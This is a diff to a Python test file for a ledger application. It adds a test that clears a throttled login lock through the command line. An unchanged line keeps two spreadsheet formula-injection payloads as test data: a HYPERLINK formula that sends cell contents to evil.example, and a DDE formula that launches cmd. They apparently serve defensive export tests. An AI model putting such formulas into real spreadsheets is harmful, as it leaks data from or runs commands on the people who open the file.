@@ -7,6 +7,7 @@ and the office can clear a lock."""
 from __future__ import annotations
 
 import io
+import subprocess
 import time
 import tracemalloc
 import zipfile
@@ -15,15 +16,20 @@ from pathlib import Path
 import httpx
 import openpyxl
 import pytest
+from sqlalchemy import select
 
+from duban.ledger import auth
+from duban.ledger.db import connect
 from duban.ledger.errors import Invalid
+from duban.ledger.models import Change
 from duban.outputs import documents
 from duban.outputs.ledger_import import read_rows
 from duban.outputs.plan_xlsx import write_plan_xlsx
 from duban.plan import parse
+from tests.ledger.conftest import NOW
 from tests.ledger.helpers import NOTICE
 from tests.web.conftest import PASSWORD, World
-from tests.web.server import running_server
+from tests.web.server import DUBAN, running_server
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=cmd|' /C calc'!A0")
 
@@ -270,3 +276,31 @@ def test_bulletin_template_bomb_is_refused_before_docxtpl(tmp_path: Path) -> Non
     with pytest.raises(Invalid, match="解压后过大"):
         documents.read_template(template)
     assert time.monotonic() - started < 0.5
+
+
+def test_the_command_line_clears_a_lock(database_url: str) -> None:
+    database = connect(database_url)
+    throttle = auth.LoginThrottle(max_attempts=5, window_seconds=900, address_limit=200)
+    with database.writer() as session:
+        auth.add_user(session, "clerk", "admin", PASSWORD, None, NOW)
+        for _ in range(6):
+            throttle.admit(session, "clerk", "10.0.0.9", NOW)
+        assert not throttle.admit(session, "clerk", "10.0.0.9", NOW)
+
+    def unlock(*args: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [str(DUBAN), "user", "unlock", *args, "--db", database_url],
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+
+    done = unlock("clerk", "--address", "10.0.0.9")
+    missing = unlock("nobody")
+    with database.writer() as session:
+        assert throttle.admit(session, "clerk", "10.0.0.9", NOW)
+        assert session.scalar(select(Change.action).where(Change.action == "unlock")) == "unlock"
+    database.dispose()
+    assert done.returncode == 0 and "已解除" in done.stderr
+    assert missing.returncode != 0 and "用户不存在" in missing.stderr + missing.stdout
+    assert "Traceback" not in missing.stderr
